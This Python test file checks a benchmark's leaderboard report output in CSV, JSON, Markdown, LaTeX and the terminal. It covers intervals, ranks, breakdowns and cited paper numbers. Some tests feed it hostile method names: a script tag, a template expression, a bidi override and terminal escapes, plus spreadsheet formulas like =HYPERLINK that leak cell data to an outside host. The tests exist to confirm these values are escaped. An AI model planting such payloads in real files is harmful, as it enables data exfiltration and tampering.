"""`rpobench report` on stored runs: intervals, marks, ranks, breakdowns, reported numbers, in every form of text."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from rpobench.leaderboard.breakdowns import size_class
from rpobench.leaderboard.cell_stats import compute_sheets
from rpobench.leaderboard.formats.csv_json import as_csv
from rpobench.leaderboard.formats.latex import as_latex, escape_tex
from rpobench.leaderboard.formats.markdown import as_markdown, print_report
from rpobench.leaderboard.published import FOLDER, read_published
from rpobench.leaderboard.rows import group_runs
from run_answers import good, poor
from typer.testing import CliRunner

from rpobench import get_task
from rpobench.cli.main import app
from rpobench.data.synth.world import generate
from rpobench.store.result_store import ResultStore
from rpobench.types import RpobenchError

Make = Callable[..., Path]
HOSTILE = 'a_b%c&d$e#f{g}h~i^j\\k "q" <script>x</script> {{7*7}} |p| \u202ebidi 漢 é\x1b[2J'


@pytest.fixture
def runs(make_run: Make, tmp_path: Path) -> Path:
    make_run("good", good)
    make_run("good", poor, profiles="swapped")
    make_run("poor", poor)
    make_run("good", lambda position, target, rng: target, task="LaMP-2")
    make_run("poor", lambda position, target, rng: "comedy", task="LaMP-2")
    return tmp_path / "runs"


def read_sheets(folder: Path, against: str | None = None) -> Any:
    return compute_sheets(group_runs(ResultStore(folder).find_runs()), against)


def lines(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def invoke_report(*arguments: Any) -> Any:
    return CliRunner().invoke(app, ["report", *map(str, arguments)])


def test_csv_has_intervals_ranks_gains_costs_and_says_synthetic(runs: Path) -> None:
    lines_by_cell = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read_sheets(runs)))}
    mae = lines_by_cell["good", "LaMP-3", "MAE"]

    assert float(mae["low"]) < float(mae["value"]) < float(mae["high"])
    assert float(mae["gain_low"]) < float(mae["gain"]) < float(mae["gain_high"]) and float(mae["gain"]) > 0
    assert mae["average_rank"] == "1.0" and lines_by_cell["poor", "LaMP-3", "MAE"]["average_rank"] == "2.0"
    assert mae["synthetic"] == "true" and mae["imported"] == "false" and mae["p_holm"] == ""
    assert float(mae["seconds"]) == 1.5 and float(mae["prompt_tokens"]) == 2400 and mae["dollars"] == ""

    stored_runs = ResultStore(runs).find_runs(method="good", profiles="own")
    run = next(run for run in stored_runs if run.task_name == "LaMP-3")
    generic, oracle = (run.result.references[name]["MAE"] for name in ("best_generic", "oracle"))

    assert float(mae["normalized"]) == pytest.approx((float(mae["value"]) - generic) / (oracle - generic))

    rmse = lines_by_cell["good", "LaMP-3", "RMSE"]

    assert rmse["gain"] == rmse["seconds"] == "" and float(rmse["low"]) < float(rmse["high"])


def test_json_holds_the_lines_of_the_csv(runs: Path) -> None:
    for options in ((), ("--by", "user")):
        records = json.loads(invoke_report("--runs", runs, "--json", *options).stdout)
        table = lines(invoke_report("--runs", runs, "--format", "csv", *options).stdout)
        assert len(records) == len(table) > 0 and list(records[0]) == list(table[0])
        for record, line in zip(records, table, strict=True):
            cells = {name: str(value).lower() if isinstance(value, bool) else value for name, value in record.items()}
            assert {name: "" if value is None else str(value) for name, value in cells.items()} == line
    refused = invoke_report("--runs", runs, "--json", "--format", "md")
    assert isinstance(refused.exception, RpobenchError) and "leave --format md out" in str(refused.exception)


def test_a_chosen_row_marks_what_differs_from_it(runs: Path) -> None:
    lines_by_cell = {
        (line["method"], line["task"]): line for line in lines(as_csv(read_sheets(runs, "poor"))) if line["p_holm"]
    }

    assert lines_by_cell.keys() == {("good", "LaMP-3"), ("good", "LaMP-2")}, "the row itself has no p-value"
    assert all(float(line["p_holm"]) < 0.05 and line["against"] == "poor" for line in lines_by_cell.values())

    text = as_markdown(read_sheets(runs, "poor"))

    assert len(re.findall(r"[\d\]*]†", text)) == 2 and "† differs from poor" in text
    assert "†" not in as_markdown(read_sheets(runs))
    with pytest.raises(RpobenchError, match="--against absent: no such row, choose one of good, poor"):
        read_sheets(runs, "absent")


def test_a_method_with_several_rows_must_be_named_by_row(make_run: Make, tmp_path: Path) -> None:
    make_run("good", good, config={"k": 1})
    make_run("good", good, config={"k": 4})

    with pytest.raises(RpobenchError, match="--against good: several rows, choose one of good k=1, good k=4"):
        read_sheets(tmp_path / "runs", "good")
    assert read_sheets(tmp_path / "runs", "good k=4")[0].against == "good k=4"


def test_strict_scores_stand_beside_parsed_where_they_differ(make_run: Make, tmp_path: Path) -> None:
    folder = make_run("good", good)

    assert "Strict" not in as_markdown(read_sheets(tmp_path / "runs"))

    file = folder / "result.json"
    file.write_text(file.read_text().replace('"strict": {\n  "MAE": ', '"strict": {\n  "MAE": 1'))

    assert "Strict" in as_markdown(read_sheets(tmp_path / "runs"))


@pytest.mark.parametrize(("items", "name"), [(0, "0 items"), (1, "1-4 items"), (4, "1-4 items"), (5, "5-16 items"),
                                             (256, "65-256 items"), (257, "257+ items")])  # fmt: skip
def test_profile_sizes_have_classes(items: int, name: str) -> None:
    assert size_class(items) == name


def test_breakdowns_by_profile_label_and_user(runs: Path) -> None:
    totals = {(line["method"], line["task"], line["metric"]): line for line in lines(as_csv(read_sheets(runs)))}
    for by in ("profile", "label", "user"):
        all_groups = lines(invoke_report("--runs", runs, "--format", "csv", "--by", by).stdout)
        groups = [
            line for line in all_groups if (line["method"], line["task"], line["metric"]) == ("good", "LaMP-3", "MAE")
        ]
        assert sum(int(line["n"]) for line in groups) == 24 and {line["by"] for line in groups} == {by}
        mean = sum(float(line["value"]) * int(line["n"]) for line in groups) / 24
        assert mean == pytest.approx(float(totals["good", "LaMP-3", "MAE"]["value"]))
        if by == "label":
            assert [line["group"] for line in groups] == sorted(
                {t.target for t in generate("LaMP-3", "dev", 24).labelled}
            )
            assert not [line for line in all_groups if line["metric"] == "f1"]
        if by == "user":
            assert all(line["users"] == "1" for line in groups)
    refused = invoke_report("--runs", runs, "--by", "user")

    assert isinstance(refused.exception, RpobenchError) and "--format csv" in str(refused.exception)


def test_texts_are_not_broken_down_by_label(make_run: Make, tmp_path: Path) -> None:
    make_run("good", lambda position, target, rng: target, task="LaMP-7")
    assert len(invoke_report("--runs", tmp_path / "runs", "--format", "csv", "--by", "label").stdout.splitlines()) == 1


def test_reported_numbers_stand_apart(tmp_path: Path, runs: Path) -> None:
    (tmp_path / "paper.toml").write_text(
        'citation = "A. Author, 2026"\nurl = "https://example.org"\nread = "table 2"\n[[rows]]\nmethod = "theirs | x"\n'
        'task = "LaMP-3"\nmetric = "MAE"\nvalue = 0.01\ntable = "table 2"\nsplit = "test"\nmodel = "big"\n'
    )
    reported = read_published(tmp_path)
    text = as_markdown(read_sheets(runs, "poor"), reported)
    head, tail = text.split("## Reported in papers, not run here")

    assert (
        "theirs" not in head
        and "| theirs \\| x | LaMP-3 | MAE | 0.01 | test | big | A. Author, 2026, table 2 |" in tail
    )

    row = lines(as_csv(read_sheets(runs), reported))[-1]

    assert (row["method"], row["reported_in"], row["low"], row["p_holm"]) == (
        "theirs | x",
        "A. Author, 2026, table 2",
        "",
        "",
    )
    assert "A. Author, 2026, table 2" in as_latex(read_sheets(runs), reported)


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("citation = 1\n", "paper.toml: citation"),
        ("x", "paper.toml: no TOML"),
        ("citation = 'a'\nurl = 'b'\nread = 'c'\n[[rows]]\n", "rows.0.method"),
    ],
)
def test_a_broken_file_of_reported_numbers_is_named(tmp_path: Path, text: str, fault: str) -> None:
    (tmp_path / "paper.toml").write_text(text)
    with pytest.raises(RpobenchError, match=fault):
        read_published(tmp_path)


def test_every_published_number_has_a_source() -> None:
    for number in read_published():
        assert (
            number.paper.url.startswith("https://")
            and number.paper.read
            and number.row.metric in get_task(number.row.task).metrics
        )
    assert FOLDER.name == "published"


def test_a_terminal_gets_colours_and_a_pipe_gets_markdown(runs: Path) -> None:
    assert invoke_report("--runs", runs).stdout == invoke_report("--runs", runs, "--format", "md").stdout

    screen = Console(file=io.StringIO(), force_terminal=True, width=140, color_system="truecolor")
    print_report(read_sheets(runs), screen)
    printed = screen.file.getvalue()  # type: ignore[attr-defined]

    assert "good" in printed and "\x1b[1m" in printed and "Personalization gain" in printed


def test_no_latex_row_begins_like_an_argument_of_a_line_break(make_run: Make, tmp_path: Path) -> None:
    make_run("[1ex] ours", good)
    make_run("*star", good)
    body = as_latex(read_sheets(tmp_path / "runs"))

    assert "\n{}[1ex] ours & " in body and "\n{}*star & " in body


def test_hostile_names_break_no_format(make_run: Make, tmp_path: Path) -> None:
    make_run(HOSTILE, good)
    sheets = read_sheets(tmp_path / "runs")
    text = as_markdown(sheets)

    assert "\\<script\\>" in text and "\\u202ebidi" in text and "\x1b" not in text
    assert text.count("\n| a_b") == 3, "one row in each of three tables"
    assert lines(as_csv(sheets))[0]["method"] == HOSTILE.replace("\u202e", "\\u202e").replace("\x1b", "\\x1b")

    make_run("_ours_ ~~a_b~~ &lt;", good)

    assert "\n| \\_ours\\_ \\~\\~a_b\\~\\~ \\&lt; |" in as_markdown(read_sheets(tmp_path / "runs"))
    assert escape_tex("50% & {x}_^~\\ 漢 é ↑") == (
        "50\\% \\& \\{x\\}\\_\\textasciicircum{}\\textasciitilde{}\\textbackslash{} U+6F22 é $\\uparrow$"
    )


@pytest.mark.parametrize("opening", ["=", "+", "-", "@", "\t="])
def test_no_spreadsheet_runs_a_name(make_run: Make, tmp_path: Path, opening: str) -> None:
    name = f'{opening}HYPERLINK("http://x/?"&A2)'
    make_run(name, good)
    assert lines(as_csv(read_sheets(tmp_path / "runs")))[0]["method"] == f"'{name}"


@pytest.mark.slow
def test_latex_compiles_whatever_the_names_hold(make_run: Make, runs: Path, tmp_path: Path) -> None:
    make_run(HOSTILE, good)
    make_run("".join(map(chr, range(32, 384))), good)
    for opening in ("[1ex] ours", "[ours]", "*star"):  # what TeX would take for arguments of the line before
        make_run(opening, good)
    body = as_latex(read_sheets(runs, "poor"))
    head = "\\documentclass{article}\n\\usepackage{booktabs,graphicx}\n\\begin{document}\n"
    document = head + body + "\\end{document}\n"
    (tmp_path / "t.tex").write_text(document, encoding="utf-8")
    pdflatex = shutil.which("pdflatex")

    assert pdflatex, "Debian's texlive-latex-recommended has it"

    process = subprocess.run(
        [pdflatex, "-interaction=nonstopmode", "-halt-on-error", "t.tex"], cwd=tmp_path, capture_output=True
    )

    assert process.returncode == 0, process.stdout.decode("latin-1")[-2000:]
    assert (tmp_path / "t.pdf").stat().st_size > 10_000
